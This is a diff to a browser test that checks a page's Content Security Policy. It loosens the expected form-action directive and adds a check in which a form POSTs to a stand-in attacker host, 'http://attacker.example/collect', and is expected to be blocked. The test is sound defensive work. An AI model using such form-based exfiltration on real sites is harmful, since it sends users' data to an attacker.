@@ -168,7 +168,7 @@ def test_the_page_has_a_content_security_policy_that_refuses_injected_scripts(ap
     policy = frame.evaluate(
         "() => document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content")
     for directive in ("default-src 'none'", "script-src 'self' 'wasm-unsafe-eval' 'sha256-", "base-uri 'none'",
-                      "object-src 'none'", "form-action 'none'"):
+                      "object-src 'none'", "form-action 'self' https: http://localhost:* http://127.0.0.1:*"):
         assert directive in policy, policy
     violation = frame.evaluate("""() => new Promise((resolve) => {
         document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
@@ -178,4 +178,16 @@ def test_the_page_has_a_content_security_policy_that_refuses_injected_scripts(ap
         setTimeout(() => resolve('no violation'), 2000);
     })""")
     assert violation == "script-src-elem"
+    # A form may go only where a provider may be (the logout POST): not to plain http elsewhere.
+    violation = frame.evaluate("""() => new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective));
+        const form = document.createElement('form');
+        form.method = 'post';
+        form.action = 'http://attacker.example/collect';
+        form.target = '_blank';
+        document.body.appendChild(form);
+        form.submit();
+        setTimeout(() => resolve('no violation'), 2000);
+    })""")
+    assert violation == "form-action"
     assert frame.evaluate("() => window.injected") is None
